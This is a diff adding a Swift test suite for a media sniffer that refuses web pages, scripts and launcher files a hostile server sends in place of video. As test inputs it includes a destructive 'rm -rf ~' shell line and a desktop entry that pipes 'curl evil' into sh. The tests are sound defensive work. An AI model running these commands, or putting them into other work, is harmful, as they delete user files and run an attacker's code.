@@ -1,0 +1,83 @@
+import Foundation
+import Testing
+import VODAppTransfer
+
+/// What the sniffer takes for media, and what it does not, from a body's first bytes: the
+/// bypasses a hostile server tried (a stray control byte, Latin-1, UTF-16) and the heads of real
+/// containers.
+@Suite struct MediaSnifferTests {
+    private func verdict(_ head: [UInt8], type: String? = "application/octet-stream") -> MediaSniffer.Verdict {
+        MediaSniffer.verdict(contentType: type, head: head, complete: true)
+    }
+
+    private func isNotMedia(_ verdict: MediaSniffer.Verdict) -> Bool {
+        if case .notMedia = verdict { return true }
+        return false
+    }
+
+    @Test func pagesAreNotMediaWhateverTheirCharsetOrAStrayControlByte() {
+        let page = Array("<!DOCTYPE html><html><body><script>alert(1)</script>Sign in</body></html>\n".utf8)
+        #expect(isNotMedia(verdict(page)))
+        #expect(isNotMedia(verdict([0x01] + page)), "one control byte before the page")
+        #expect(isNotMedia(verdict(page + [0x00, 0x02])), "control bytes after it")
+        let latin1 = Array("<html><body>Connexion r".utf8) + [0xE9, 0x73, 0x65, 0x61, 0x75] + Array(" requise</body></html>".utf8)
+        #expect(isNotMedia(verdict(latin1)), "Latin-1 is not UTF-8, and still text")
+        let utf16LE: [UInt8] = [0xFF, 0xFE] + page.flatMap { [$0, UInt8(0)] }
+        #expect(isNotMedia(verdict(utf16LE)))
+        let utf16BEWithoutMark: [UInt8] = page.flatMap { [UInt8(0), $0] }
+        #expect(isNotMedia(verdict(utf16BEWithoutMark)))
+        #expect(isNotMedia(verdict(Array("#!/bin/sh\nrm -rf ~\n".utf8))))
+        let behindJunk: [UInt8] = Array("X".utf8) + Array(repeating: 0, count: 7) + page + Array(repeating: 0x20, count: 600)
+        #expect(isNotMedia(verdict(behindJunk)), "markup a few bytes in is a page to xdg-open")
+        #expect(verdict(Array("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n".utf8))
+                == .notMedia("the server answered with a desktop entry (a launcher), not media"))
+        #expect(isNotMedia(verdict(Array(#"{"error": "expired"}"#.utf8) + [0x1B])))
+    }
+
+    /// What a CDN sends in place of an expired video is not one, whatever its URL or type says.
+    @Test func imagesDocumentsAndArchivesAreNotMedia() {
+        let heads: [String: [UInt8]] = [
+            "JPEG": [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + Array("JFIF".utf8) + [0, 1, 1, 0, 0, 1],
+            "PNG": [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + Array("IHDR".utf8),
+            "PDF": Array("%PDF-1.4\n%".utf8) + [0xE2, 0xE3, 0xCF, 0xD3, 0x0A, 0x00, 0x01],
+            "gzip": [0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03],
+            "WebP": Array("RIFF".utf8) + [0x24, 0, 0, 0] + Array("WEBPVP8 ".utf8),
+        ]
+        for (name, head) in heads {
+            #expect(isNotMedia(verdict(head, type: "video/mp4")), "\(name)")
+        }
+    }
+
+    @Test func containersAreMedia() {
+        let heads: [String: [UInt8]] = [
+            "MP4": [0, 0, 0, 0x20] + Array("ftypisom".utf8) + [0, 0, 2, 0] + Array("isomiso2avc1mp41".utf8) + [0, 0, 0, 8] + Array("free".utf8),
+            "MPEG-TS": (0..<4).flatMap { _ in [0x47, 0x40, 0x00, 0x10] + Array(repeating: 0xFF, count: 184) },
+            "Matroska": [0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0xF7, 0x81, 0x01] + Array("webm".utf8),
+            "MP3 with ID3": Array("ID3".utf8) + [0x04, 0x00, 0x00, 0x00, 0x00, 0x01, 0x23] + Array(repeating: 0, count: 30),
+            "Ogg": Array("OggS".utf8) + [0x00, 0x02] + Array(repeating: 0, count: 20),
+            "FLAC": Array("fLaC".utf8) + [0x00, 0x00, 0x00, 0x22, 0x10, 0x00, 0x10, 0x00],
+            "WAV": Array("RIFF".utf8) + [0x24, 0x08, 0x00, 0x00] + Array("WAVEfmt ".utf8) + [0x10, 0, 0, 0, 1, 0, 2, 0],
+        ]
+        for (name, head) in heads {
+            #expect(verdict(head) == .media, "\(name)")
+        }
+    }
+
+    /// A file the server labelled vaguely is named by what its bytes show.
+    @Test func containersAreNamedByTheirFirstBytes() {
+        #expect(MediaSniffer.containerType([0, 0, 0, 0x20] + Array("ftypisom".utf8)) == "video/mp4")
+        #expect(MediaSniffer.containerType([0, 0, 0, 0x14] + Array("ftypqt  ".utf8)) == "video/quicktime")
+        #expect(MediaSniffer.containerType((0..<2).flatMap { _ in [0x47, 0x40, 0x00, 0x10] + Array(repeating: UInt8(0xFF), count: 184) }) == "video/mp2t")
+        #expect(MediaSniffer.containerType([0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x82, 0x84] + Array("webm".utf8)) == "video/webm")
+        #expect(MediaSniffer.containerType(Array("ID3".utf8) + [4, 0, 0]) == "audio/mpeg")
+        #expect(MediaSniffer.containerType(Array(repeating: 0x55, count: 64)) == nil)
+    }
+
+    @Test func playlistsAndManifestsAreRecognised() {
+        #expect(verdict(Array("\u{FEFF}#EXTM3U\n#EXT-X-VERSION:3\n".utf8)) == .hlsPlaylist)
+        if case .unsupported = verdict(Array(#"<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011">"#.utf8)) {
+        } else {
+            Issue.record("a DASH manifest is not refused as unsupported")
+        }
+    }
+}
